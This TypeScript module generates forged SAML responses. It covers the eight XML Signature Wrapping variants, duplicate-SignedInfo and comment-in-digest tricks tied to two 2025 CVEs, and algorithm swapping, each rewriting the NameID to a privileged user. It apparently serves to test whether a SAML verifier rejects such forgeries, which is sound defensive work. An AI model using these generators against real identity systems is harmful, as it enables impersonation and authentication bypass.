import { createRequire } from 'node:module'

interface Node {
  nodeType: number
  localName: string
  parentNode: Node | null
  firstChild: Node | null
  childNodes: ArrayLike<Node>
  ownerDocument: Document
  textContent: string
  appendChild(node: Node): Node
  insertBefore(node: Node, before: Node | null): Node
  removeChild(node: Node): Node
  cloneNode(deep: boolean): Node
  setAttribute(name: string, value: string): void
  getElementsByTagNameNS(namespace: string, name: string): ArrayLike<Node>
}
interface Document extends Node { documentElement: Node; createElementNS(namespace: string, name: string): Node; importNode(node: Node, deep: boolean): Node }

const { DOMParser, XMLSerializer } = createRequire(import.meta.url)('@xmldom/xmldom') as {
  DOMParser: new () => { parseFromString(xml: string, type: string): Document }
  XMLSerializer: new () => { serializeToString(node: Node): string }
}

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion'
const DSIG = 'http://www.w3.org/2000/09/xmldsig#'
export const EVIL = 'head-teacher'

/** A signed response and its parts. */
interface Parts { document: Document; response: Node; assertion: Node; signature: Node }

function parts(xml: string, signed: 'Response' | 'Assertion'): Parts {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const assertion = first(response, SAML, 'Assertion')
  const owner = signed === 'Response' ? response : assertion
  const signature = Array.from(owner.childNodes).find((node) => node.localName === 'Signature')
  if (!signature) throw new Error(`The ${signed} is not signed`)
  return { document, response, assertion, signature }
}

function first(node: Node, namespace: string, name: string): Node {
  const found = node.getElementsByTagNameNS(namespace, name)[0]
  if (!found) throw new Error(`no ${name}`)
  return found
}

/** The same element naming somebody else, under another identifier, without any signature. */
function evilCopy(element: Node): Node {
  const copy = element.cloneNode(true)
  for (const signature of Array.from(copy.getElementsByTagNameNS(DSIG, 'Signature'))) signature.parentNode?.removeChild(signature)
  first(copy, SAML, 'NameID').textContent = EVIL
  copy.setAttribute('ID', '_evil')
  return copy
}

const write = (document: Document): string => new XMLSerializer().serializeToString(document)

/** Somlo, Mainka and others, "On Breaking SAML" (2012): the eight ways to wrap a signature, by number. */
export const wrappings: Record<string, { of: 'Response' | 'Assertion'; wrap(xml: string): string }> = {
  'XSW1: the signed response inside the signature of a false one': { of: 'Response', wrap: (xml) => {
    const { document, response, signature } = parts(xml, 'Response')
    const evil = evilCopy(response)
    const original = response.cloneNode(true)
    removeSignature(original)
    const moved = signature.cloneNode(true)
    moved.appendChild(original)
    evil.appendChild(moved)
    document.removeChild(response)
    document.appendChild(evil)
    return write(document)
  } },
  'XSW2: the signed response beside a detached signature in a false one': { of: 'Response', wrap: (xml) => {
    const { document, response, signature } = parts(xml, 'Response')
    const evil = evilCopy(response)
    const original = response.cloneNode(true)
    removeSignature(original)
    evil.appendChild(original)
    evil.appendChild(signature.cloneNode(true))
    document.removeChild(response)
    document.appendChild(evil)
    return write(document)
  } },
  'XSW3: a false assertion before the signed one': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion } = parts(xml, 'Assertion')
    response.insertBefore(evilCopy(assertion), assertion)
    return write(document)
  } },
  'XSW4: the signed assertion inside a false one': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion } = parts(xml, 'Assertion')
    const evil = evilCopy(assertion)
    response.insertBefore(evil, assertion)
    response.removeChild(assertion)
    evil.appendChild(assertion)
    return write(document)
  } },
  'XSW5: a false assertion that carries the signature, the original at the end': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion, signature } = parts(xml, 'Assertion')
    const original = assertion.cloneNode(true)
    removeSignature(original)
    const evil = evilCopy(assertion)
    evil.appendChild(signature.cloneNode(true))
    response.insertBefore(evil, assertion)
    response.removeChild(assertion)
    response.appendChild(original)
    return write(document)
  } },
  'XSW6: the original inside the signature of a false assertion': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion, signature } = parts(xml, 'Assertion')
    const original = assertion.cloneNode(true)
    removeSignature(original)
    const evil = evilCopy(assertion)
    const moved = signature.cloneNode(true)
    moved.appendChild(original)
    evil.appendChild(moved)
    response.insertBefore(evil, assertion)
    response.removeChild(assertion)
    return write(document)
  } },
  'XSW7: a false assertion in Extensions': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion } = parts(xml, 'Assertion')
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    extensions.appendChild(evilCopy(assertion))
    response.insertBefore(extensions, response.firstChild)
    return write(document)
  } },
  'XSW8: the original in an Object of the signature of a false assertion': { of: 'Assertion', wrap: (xml) => {
    const { document, response, assertion, signature } = parts(xml, 'Assertion')
    const original = assertion.cloneNode(true)
    removeSignature(original)
    const evil = evilCopy(assertion)
    const moved = signature.cloneNode(true)
    const object = document.createElementNS(DSIG, 'ds:Object')
    object.appendChild(original)
    moved.appendChild(object)
    evil.insertBefore(moved, evil.childNodes[1] ?? null)
    response.insertBefore(evil, assertion)
    response.removeChild(assertion)
    return write(document)
  } },
}

function removeSignature(element: Node): void {
  const own = Array.from(element.childNodes).find((node) => node.localName === 'Signature')
  if (own) element.removeChild(own)
}

/** The false response with a second, own SignedInfo put before or after the true one (CVE-2025-29774). */
export function twoSignedInfos(xml: string, place: 'before' | 'after'): string {
  const info = /<(ds:)?SignedInfo>[\s\S]*?<\/(ds:)?SignedInfo>/.exec(xml)?.[0] ?? ''
  const false_ = info.replace(/DigestValue>[^<]*</, 'DigestValue>AAAA<')
  return xml.replace(info, place === 'before' ? false_ + info : info + false_).replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`)
}

/** A comment inside the digest (CVE-2025-29775). */
export function commentInDigest(xml: string): string {
  return xml.replace(/DigestValue>([^<]{4})/, 'DigestValue><!--x-->$1').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`)
}

/** Replaces the name of one algorithm by another. */
export const swapAlgorithm = (xml: string, from: string, to: string): string => xml.replaceAll(from, to)
